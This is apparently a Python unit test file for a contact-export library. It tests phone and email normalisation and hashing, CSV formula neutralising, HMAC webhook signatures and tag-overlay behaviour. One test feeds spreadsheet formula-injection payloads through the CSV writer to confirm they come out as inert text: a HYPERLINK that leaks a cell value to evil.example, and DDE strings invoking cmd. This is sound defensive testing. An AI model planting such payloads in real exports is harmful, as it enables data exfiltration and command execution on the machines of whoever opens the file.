"""Export files and hand-offs, unit by unit: normalising and hashing for custom audiences, the overlay as the
compiler reads it (tag, untag, re-tag, the latest change winning, one org only), webhook signing."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import hmac
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from tern.engines.duckdb import DuckDBEngine
from tern.exports.files import CsvWriter, inert, normal_email, normal_phone, sha256
from tern.exports.webhook import signature, verify
from tern.parquet import CONTACTS_SCHEMA
from tern.segments.compiler import effective_contacts
from tern.segments.definition import parse_definition
from tern.segments.evaluate import members
from tern.store.overlay import OVERLAY_SCHEMA


def test_audience_values_are_normalised_before_hashing() -> None:
    assert normal_email("  Anna.Nowak@Example.COM ") == "anna.nowak@example.com"
    assert normal_email("not an address") is None and normal_email(None) is None
    assert normal_phone("+48 600-100-200") == "48600100200"
    assert normal_phone("0048 600 100 200") == "48600100200"
    assert normal_phone("600 100 200", "PL") == "48600100200"  # a national number, placed by the contact's country
    assert normal_phone("12 34", "PL") is None  # too short to be a number anywhere
    assert normal_phone("(212) 555-0123", "us") == "12125550123"
    assert normal_phone("600 100 200", None) is None and normal_phone("", "PL") is None
    assert sha256("anna.nowak@example.com") == hashlib.sha256(b"anna.nowak@example.com").hexdigest()
    assert sha256(None) == ""


def test_a_hostile_contacts_formula_reaches_a_csv_as_inert_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    path = tmp_path / "members.csv"
    writer = CsvWriter(str(path))
    writer.write(["contact_id", "first_name", "phone", "tags"], [
        ["c1", hostile, "+48 600 100 200", ["@SUM(1+1)*cmd|' /C calc'!A0", "vip"]],
        ["c2", "-2+3+cmd|' /C calc'!A0", "-12.5", None], ["c3", "\t=1+1", "(0)22 555 01 23", []],
    ])  # fmt: skip
    writer.close([])
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows[1] == ["c1", "'" + hostile, "+48 600 100 200", "'@SUM(1+1)*cmd|' /C calc'!A0; vip"]
    assert rows[2] == ["c2", "'-2+3+cmd|' /C calc'!A0", "-12.5", ""] and rows[3] == ["c3", "'\t=1+1", "(0)22 555 01 23", ""]
    assert [inert(t) for t in ("Anna", "+48600100200", "=1", "+1 (555) =1", "")] == ["Anna", "+48600100200", "'=1", "'+1 (555) =1", ""]


def test_a_webhook_signature_is_hmac_sha256_of_the_time_and_body_and_goes_stale() -> None:
    body, at = b'{"batch":1}', 1_800_000_000
    header = signature(["s3cret-s3cret-s3cret"], body, at)
    assert header == f"t={at},v1=" + hmac.new(b"s3cret-s3cret-s3cret", f"{at}.".encode() + body, hashlib.sha256).hexdigest()
    assert verify("s3cret-s3cret-s3cret", header, body, now=at + 299)
    assert not verify("s3cret-s3cret-s3cret", header, body, now=at + 301)  # replayed after the tolerance
    assert not verify("s3cret-s3cret-s3cret", header, body + b" ", now=at)  # another body
    assert not verify("another-secret-entirely", header, body, now=at)
    assert not verify("s3cret-s3cret-s3cret", header.replace(f"t={at}", f"t={at + 5}"), body, now=at)  # a moved time
    for broken in ("", "v1=abc", f"t=x,v1={header.split('v1=')[1]}", f"t={at},t={at},{header.split(',')[1]}"):
        assert not verify("s3cret-s3cret-s3cret", broken, body, now=at)
    # while a rotation overlaps: one v1 under each secret, so a receiver holding either verifies
    both = signature(["the-new-secret-0001", "the-old-secret-0001"], body, at)
    assert verify("the-new-secret-0001", both, body, now=at) and verify("the-old-secret-0001", both, body, now=at)


def _lake(root: Path, changes: list[tuple[str, str, str, str, str, int]]) -> DuckDBEngine:
    for org in ("acme", "globex"):
        contacts = [{"contact_id": c, "tags": tags} for c, tags in (("a", ["vip"]), ("b", None), ("c", ["vip", "opera"]))]
        folder = root / "contacts" / f"org_id={org}"
        folder.mkdir(parents=True)
        pq.write_table(pa.Table.from_pylist(contacts, schema=CONTACTS_SCHEMA), folder / "c.parquet")
    for i, (org, contact, kind, value, action, minute) in enumerate(changes):
        folder = root / "overlay" / f"org_id={org}"
        folder.mkdir(parents=True, exist_ok=True)
        row = {
            "contact_id": contact,
            "kind": kind,
            "value": value,
            "action": action,
            "changed_at": dt.datetime(2026, 11, 22, 10, minute),
            "source": f"s{i}",
        }
        pq.write_table(pa.Table.from_pylist([row], schema=OVERLAY_SCHEMA), folder / f"s{i}.parquet")
    return DuckDBEngine(root)


def has(engine: DuckDBEngine, tag: str, org: str = "acme", op: str = "has_any") -> list[str]:
    definition = parse_definition({"name": "t", "where": {"all": [{"kind": "tags", "op": op, "values": [tag]}]}})
    return members(definition, engine, org, dt.datetime(2026, 11, 22, 12))


def test_the_overlay_latest_change_wins_for_one_org(tmp_path: Path) -> None:
    engine = _lake(tmp_path, [
        ("acme", "b", "tag", "vip", "add", 1),                                          # tag
        ("acme", "a", "tag", "vip", "remove", 1),                                       # untag a base value
        ("acme", "c", "tag", "vip", "remove", 1), ("acme", "c", "tag", "vip", "add", 2),  # untag, re-tag
        ("acme", "b", "tag", "new", "add", 3), ("acme", "b", "tag", "new", "remove", 4),  # tag, untag
        ("acme", "a", "category", "vip", "add", 5),                                     # another kind: no effect on tags
    ])  # fmt: skip
    assert has(engine, "vip") == ["b", "c"]
    assert has(engine, "new") == []
    assert has(engine, "opera") == ["c"]  # values the overlay never touched stay as they are
    assert has(engine, "vip", op="has_none") == ["a"]
    assert has(engine, "vip", org="globex") == ["a", "c"]  # another org's contacts with the same ids are untouched
    rows = dict(engine.run(f"SELECT contact_id, tags FROM ({effective_contacts('acme', None).sql('duckdb')})").rows)
    assert rows == {"a": [], "b": ["vip"], "c": ["vip", "opera"]}  # the customer's order kept
